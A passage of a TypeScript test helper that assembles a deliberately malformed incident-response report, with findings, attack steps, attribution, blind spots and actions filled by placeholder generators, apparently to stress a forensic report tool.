  const badEnd = (entity: StepEnd['entity']): StepEnd => ({ entity, name: bad(), addresses: [bad(), bad()] })
  const badRecord = (): ReportRecord => ({ evidenceId: bad(), path: bad(), record: 7, time: bad(), excerpt: texts.join(' ') })
  const badFindings = texts.map(
    (text, index): ReportFinding => ({
      id: bad(),
      title: text,
      severity: (['informational', 'low', 'medium', 'high', 'critical'] as const)[index % 5] ?? 'low',
      confidence: 'low',
      techniques: ['T1505.003', bad()],
      techniqueAliases: [bad()],
      hosts: [text, bad()],
      accounts: [bad()],
      addresses: [bad()],
      firstTime: index % 2 === 0 ? '2023-08-15T05:34:25.000000Z' : bad(),
      lastTime: bad(),
      count: 3,
      why: bad(),
      benignExplanation: bad(),
      witnesses: [{ source: 'sigma', rule: bad(), title: bad(), level: 'high' }],
      evidence: [badRecord(), badRecord()],
      evidenceTotal: 2,
    }),
  )
  const kinds = [
    'outside-address',
    'relay',
    'edge-device',
    'host',
    'account',
    'file',
    'web-resource',
    'service',
    'critical-service',
  ] as const
  const badSteps = Array.from(
    { length: 24 },
    (_, index): ReportStep => ({
      order: index + 1,
      time: bad(),
      orderedTime: index % 3 === 0 ? '2023-08-15T05:34:25.000000Z' : bad(),
      technique: bad(),
      title: bad(),
      from: badEnd(kinds[index % 9] ?? 'host'),
      to: badEnd(kinds[(index * 5 + 1) % 9] ?? 'host'),
      account: bad(),
      how: index % 2 === 0 ? 'observed' : 'inferred',
      why: bad(),
      findings: [badFindings[0]?.id ?? ''],
      evidence: [badRecord()],
    }),
  )
  return {
    ...islandReport,
    version: bad(),
    generatedFrom: {
      evidence: texts.map(text => ({
        ...vpn,
        id: bad(),
        path: text,
        sha256: bad(),
        format: bad(),
        firstTime: bad(),
        lastTime: bad(),
      })),
      diagnostics: texts.map(text => ({
        kind: 'diagnostic',
        code: bad(),
        level: 'warning',
        message: text,
        hint: bad(),
        path: bad(),
      })),
      since: bad(),
      until: bad(),
    },
    verdict: { level: 'suspicious', sentence: texts.join(' '), confidence: 'low' },
    findings: badFindings,
    incidents: [
      {
        id: bad(),
        title: bad(),
        summary: bad(),
        severity: 'high',
        confidence: 'low',
        findings: badFindings.map(finding => finding.id),
        entities: badSteps.map(item => ({ ...item.to, aliases: [bad()], firstTime: bad(), lastTime: bad() })),
        steps: badSteps,
        trailEnds: [
          { at: badSteps[0]?.to.name ?? '', why: bad(), whatWouldContinueIt: bad() },
          { at: badSteps[1]?.from.name ?? '', why: bad(), whatWouldContinueIt: bad() },
        ],
      },
    ],
    attribution: {
      hypotheses: [{ who: bad(), likelihood: 'likely', confidence: 'low', for: [...texts], against: [...texts] }],
      statement: bad(),
    },
    impact: {
      services: texts.map(text => ({ name: text, sector: bad(), state: 'could', why: bad() })),
      cut: [{ what: bad(), protects: [bad()], cost: bad() }],
    },
    blindSpots: texts.map(text => ({ what: text, where: bad(), from: bad(), to: bad(), consequence: bad(), howToClose: bad() })),
    clocks: [{ source: bad(), offset: 1, basis: bad() }],
    actions: texts.map((text, index) => ({
      order: index + 1,
      kind: 'preserve',
      what: text,
      targets: [bad()],
      doFirst: bad(),
      doNot: bad(),
      why: bad(),
      effort: bad(),
      findings: [bad()],
    })),
    coverage: {
      ...islandReport.coverage,
      sources: texts.map(text => ({
        ...coverageRow(text, vpn, 'yes', 'no', 'no'),
        source: bad(),
        firstTime: bad(),
        lastTime: bad(),
      })),
    },
  }
}
